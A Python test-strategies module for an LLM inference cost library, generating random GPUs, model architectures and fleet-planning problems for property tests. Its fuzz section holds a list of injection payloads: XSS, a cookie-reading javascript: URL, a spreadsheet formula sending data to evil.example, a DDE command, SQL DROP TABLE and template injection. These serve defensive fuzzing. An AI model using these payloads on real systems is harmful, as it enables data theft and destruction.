"""Shared hypothesis strategies: random but physical GPUs, efficiency factors and model architectures.

Ranges cover today's hardware and open models with margin (numpy-financial's ``tests/strategies.py`` is the
model). ``PROPERTIES`` is the settings profile every property test uses: derandomized (the same examples on
every run, so a failure reproduces) and modest in size so the suite stays fast. ``tests/conftest.py`` loads it
as hypothesis' default profile, so even a bare ``@given`` runs on it; a test that needs more or fewer examples
derives from it (``THOROUGH``, ``FEW``) and changes nothing else. ``HYPOTHESIS_PROFILE=thorough`` runs every
property test with 10× the examples (still derandomized).
"""

from __future__ import annotations

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from economics.hardware import GPU, Deployment, Efficiency
from economics.model import ModelSpec
from economics.plan import PlanProblem
from economics.schemes import SpeculativeScheme

settings.register_profile(
    "house", max_examples=40, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
settings.register_profile("thorough", settings.get_profile("house"), max_examples=400)
PROPERTIES = settings.get_profile("house")
#: Cheap properties over a large input space (CSV and share-link parsing): more examples.
THOROUGH = settings(PROPERTIES, max_examples=200)
#: Properties that run a whole scenario per example: fewer examples.
FEW = settings(PROPERTIES, max_examples=8)


@st.composite
def gpus(draw: st.DrawFn) -> GPU:
    """Accelerators from an L4 (0.3 TB/s, 121 TFLOP/s) to beyond a GB200 (8 TB/s, 2.5 PFLOP/s)."""
    bf16 = draw(st.floats(100e12, 3e15))
    return GPU(
        id="gpu",
        name="random GPU",
        peak_flops_bf16_per_s=bf16,
        peak_flops_fp8_per_s=2.0 * bf16,
        hbm_bandwidth_bytes_per_s=draw(st.floats(0.3e12, 8e12)),
        hbm_capacity_bytes=draw(st.floats(16e9, 300e9)),
        link_bandwidth_bytes_per_s=draw(st.floats(32e9, 1.8e12)),
        power_w=draw(st.floats(70, 1500)),
    )


@st.composite
def efficiencies(draw: st.DrawFn) -> Efficiency:
    """Efficiency factors over the ranges of docs/inputs.md#efficiency (and a little beyond)."""
    return Efficiency(
        mbu=draw(st.floats(0.3, 1.0)),
        mfu_decode=draw(st.floats(0.2, 1.0)),
        mfu_prefill=draw(st.floats(0.2, 1.0)),
        step_overhead_s=draw(st.floats(0.0, 3e-3)),
        allreduce_latency_s=draw(st.floats(0.0, 30e-6)),
        allreduce_half_bytes=draw(st.sampled_from([0.0, 4e6])),
        comm_overlap=draw(st.floats(0.0, 0.8)),
        kv_mem_util=draw(st.floats(0.7, 1.0)),
    )


@st.composite
def models(draw: st.DrawFn, moe: bool | None = None) -> ModelSpec:
    """Decoder-only transformers from ~0.1B to ~1T parameters, dense or MoE, GQA/MQA/MHA, 1–2 B per weight."""
    is_moe = draw(st.booleans()) if moe is None else moe
    head_dim = draw(st.sampled_from([64, 128, 256]))
    n_heads = draw(st.sampled_from([8, 16, 32, 64, 128]))
    n_kv = draw(st.sampled_from([h for h in (1, 2, 4, 8, 16, 32, 64, 128) if h <= n_heads]))
    d_model = draw(st.sampled_from([1024, 2048, 4096, 5120, 8192, 16384]))
    n_layers = draw(st.integers(4, 128))
    b = draw(st.sampled_from([1.0, 2.0]))
    common = {
        "id": "m",
        "name": "random model",
        "n_layers": n_layers,
        "d_model": d_model,
        "n_heads": n_heads,
        "n_kv_heads": n_kv,
        "head_dim": head_dim,
        "vocab": draw(st.integers(32_000, 256_000)),
        "tied_embeddings": draw(st.booleans()),
        "bytes_per_weight": b,
        "bytes_per_kv": b,
    }
    if not is_moe:
        return ModelSpec(**common, d_ff=draw(st.integers(2 * d_model, 4 * d_model)))
    n_experts = draw(st.sampled_from([8, 16, 32, 64, 128, 256]))
    return ModelSpec(
        **common,
        d_ff=draw(st.integers(2 * d_model, 4 * d_model)),
        n_experts=n_experts,
        experts_top_k=draw(st.integers(1, min(8, n_experts))),
        n_moe_layers=draw(st.integers(1, n_layers)),
        d_ff_expert=draw(st.integers(256, 2 * d_model)),
        n_shared_experts=draw(st.integers(0, 2)),
    )


@st.composite
def deployments(draw: st.DrawFn) -> Deployment:
    """A random GPU in a tensor-parallel group of 1–16."""
    return Deployment(gpu=draw(gpus()), n_gpus=draw(st.sampled_from([1, 2, 4, 8, 16])))


@st.composite
def speculative_schemes(draw: st.DrawFn) -> SpeculativeScheme:
    """Chains and trees with fused heads (Medusa, no draft) or a 1–4-layer draft run 0–8 times (EAGLE)."""
    verify = draw(st.integers(2, 64))
    return SpeculativeScheme(
        draft_tokens=draw(st.integers(1, 16)),
        verify_tokens=verify,
        mean_accepted_tokens=draw(st.floats(1.0, float(verify))),
        draft_layers=draw(st.integers(0, 4)),
        draft_vocab=draw(st.integers(1_000, 256_000)),
        draft_steps=draw(st.integers(0, 8)),
        draft_step_overhead_s=draw(st.floats(0.0, 1e-3)),
    )


@st.composite
def plan_problems(draw: st.DrawFn) -> PlanProblem:
    """Small fleet MIPs (issue 10): 1–5 workloads, 1–3 owned options on 1–2 node offers, 1–2 APIs, one period
    or 24 hours, binary routes; some pairs not allowed (data rules), every workload with at least one option."""
    import numpy as np

    w = draw(st.integers(1, 5))
    n_owned = draw(st.integers(1, 3))
    n_api = draw(st.integers(1, 2))
    k = draw(st.integers(1, 2))
    hours = draw(st.sampled_from([1, 24]))
    o = n_owned + n_api
    floats = st.floats
    allowed = np.array(draw(st.lists(st.booleans(), min_size=w * o, max_size=w * o))).reshape(w, o)
    allowed[:, -1] |= ~allowed.any(axis=1)
    is_api = np.array([False] * n_owned + [True] * n_api)
    api_price = np.array([0.0] * n_owned + draw(st.lists(floats(1e-5, 1e-2), min_size=n_api, max_size=n_api)))
    q = np.array(draw(st.lists(floats(0.5, 1.0), min_size=w * o, max_size=w * o))).reshape(w, o)
    m = np.array(draw(st.lists(st.integers(1, 3), min_size=w, max_size=w)), dtype=float)[:, None]
    attempts = np.where(q > 0, (1 - (1 - q) ** m) / q, m)
    fail_cost = np.array(draw(st.lists(floats(0.0, 1.0), min_size=w, max_size=w)))[:, None]
    cap = np.array(draw(st.lists(floats(0.1, 50.0), min_size=w * o, max_size=w * o))).reshape(w, o)
    cap = np.where(is_api[None, :], np.inf, cap)
    gpus_per_node = np.array(draw(st.lists(st.sampled_from([1, 4, 8]), min_size=k, max_size=k)), dtype=float)
    node = np.array(draw(st.lists(st.integers(0, k - 1), min_size=n_owned, max_size=n_owned)) + [-1] * n_api)
    gpr = np.array([draw(st.sampled_from([1.0, gpus_per_node[node[i]]])) for i in range(n_owned)] + [0.0] * n_api)
    rate = np.array(draw(st.lists(floats(0.01, 20.0), min_size=w, max_size=w)))[:, None]
    shape = np.array(draw(st.lists(floats(0.0, 2.0), min_size=hours, max_size=hours)))[None, :] if hours > 1 else 1.0
    rates = np.broadcast_to(rate * np.maximum(shape, 0.05), (w, hours)).copy()
    return PlanProblem(
        allowed=allowed,
        is_api=is_api,
        api_cost_usd=np.tile(api_price, (w, 1)),
        attempts=attempts,
        failure_usd=(1 - q) ** m * fail_cost,
        capacity_requests_per_s=cap,
        option_node=node,
        gpus_per_replica=gpr,
        replica_variable_usd_per_hour=np.array(
            draw(st.lists(floats(0.0, 2.0), min_size=n_owned, max_size=n_owned)) + [0.0] * n_api
        ),
        unit_gpus=gpus_per_node,
        unit_usd_per_month=np.array(draw(st.lists(floats(100.0, 20_000.0), min_size=k, max_size=k))),
        min_units=np.array(draw(st.lists(st.integers(0, 2), min_size=k, max_size=k)), dtype=float),
        capacity_rate=rates,
        bill_rate=rates,
        deferrable=np.zeros(w, dtype=bool),
        window=np.ones((w, hours), dtype=bool),
        split=np.zeros(w, dtype=bool),
        target_utilization=draw(floats(0.5, 1.0)),
        time_limit_s=30.0,
    )


# ---- hostile input for the fuzz suite (tests/fuzz, issue 15) --------------------------------------------------

#: XSS, markdown, formula and control-character payloads put into every string field.
HOSTILE_TEXT = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    "[click](javascript:alert(1))",
    "**bold** _it_ `code` # heading | pipe |",
    "$x$ $$\\frac{1}{0}$$",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t\r\n\x00\x1b[31m",
    "\u202e\u200b\ufeff",
    "{{ 7*7 }} {% raw %}",
    "'; DROP TABLE reviews; --",
)


def fuzz_scale() -> int:
    """1 in CI (the default); 25 with ``LLMECON_FUZZ_PROFILE=long`` (scripts/fuzz_long)."""
    import os

    return 25 if os.environ.get("LLMECON_FUZZ_PROFILE") == "long" else 1


def fuzz_settings(max_examples: int) -> settings:
    """The fuzz profile. CI: ``max_examples``, derandomized (the same examples every run, so a failure
    reproduces). Long run: 25× as many, randomly seeded (new examples each run; hypothesis prints the seed of
    a failure). No deadline: a hang is caught by pytest-timeout instead."""
    scale = fuzz_scale()
    return settings(
        max_examples=max_examples * scale,
        derandomize=scale == 1,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )


def hostile_text() -> st.SearchStrategy[str]:
    """A payload, random unicode, or a mix of both."""
    return st.one_of(
        st.sampled_from(HOSTILE_TEXT),
        st.text(max_size=40),
        st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE_TEXT), st.text(max_size=10)),
    )


def json_values(max_leaves: int = 20) -> st.SearchStrategy[object]:
    """Any JSON value, including the non-standard NaN and Infinity and huge numbers."""
    leaves = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(10**30), 10**30),
        st.floats(allow_nan=True, allow_infinity=True),
        hostile_text(),
    )
    return st.recursive(
        leaves,
        lambda inner: st.one_of(st.lists(inner, max_size=5), st.dictionaries(st.text(max_size=12), inner, max_size=5)),
        max_leaves=max_leaves,
    )


@st.composite
def mutated_json(draw: st.DrawFn, base: object) -> object:
    """``base`` (a JSON document) with a few values replaced, keys deleted or added, or strings made hostile."""
    import copy

    doc = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, 4))):
        path: list[object] = []
        node = doc
        while isinstance(node, (dict, list)) and node and draw(st.booleans()):
            key = draw(st.sampled_from(sorted(node) if isinstance(node, dict) else list(range(len(node)))))
            path.append(key)
            node = node[key]  # type: ignore[index]
        if not path:
            continue
        parent = doc
        for key in path[:-1]:
            parent = parent[key]  # type: ignore[index]
        action = draw(st.sampled_from(["replace", "delete", "hostile", "add"]))
        last = path[-1]
        if action == "replace":
            parent[last] = draw(json_values(5))  # type: ignore[index]
        elif action == "delete":
            del parent[last]  # type: ignore[arg-type]
        elif action == "hostile":
            parent[last] = draw(st.sampled_from(HOSTILE_TEXT))  # type: ignore[index]
        elif isinstance(parent, dict):
            parent[draw(st.text(min_size=1, max_size=10))] = draw(json_values(3))
    return doc


def nested(depth: int) -> str:
    """JSON text nested ``depth`` levels deep."""
    return "[" * depth + "]" * depth
